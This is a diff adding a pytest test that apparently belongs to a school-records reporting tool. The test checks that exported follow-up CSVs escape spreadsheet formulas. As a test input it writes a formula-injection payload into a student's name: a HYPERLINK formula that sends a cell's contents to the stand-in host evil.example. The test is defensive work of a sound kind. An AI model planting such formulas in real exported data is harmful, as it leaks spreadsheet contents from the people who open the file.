@@ -477,6 +477,31 @@ def test_config_thresholds_change_the_verdict(settings: Settings, engine: Engine
 
 
 @pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)
+def test_follow_up_csvs_never_hold_a_live_spreadsheet_formula(
+    settings: Settings, engine: Engine
+) -> None:
+    import csv
+
+    healthy_school(engine, n=4)
+    with Session(engine) as session:
+        session.execute(
+            update(Person)
+            .where(Person.sis_id == "S01")  # type: ignore[arg-type]
+            .values(
+                first_name='=HYPERLINK("http://evil.example/x?"&A1,"click")',
+                program="@SUM(A1:A9)",
+            )
+        )
+        session.commit()
+    lose_numbers(engine, ["S01"])
+    run_report(settings, now=NOW)
+    folder = settings.report_dir / "20250901T060000Z" / "followup"
+    with (folder / "A1.csv").open(newline="", encoding="utf-8") as fh:
+        rows = [r for r in csv.reader(fh) if r[0] == "S01"]
+    assert rows and all(r[1].startswith("'=HYPERLINK") and r[2] == "'@SUM(A1:A9)" for r in rows)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
+
+
 def test_a_mail_failure_is_reported_and_the_report_still_stands(
     settings: Settings, engine: Engine, no_events: list[Any]
 ) -> None:
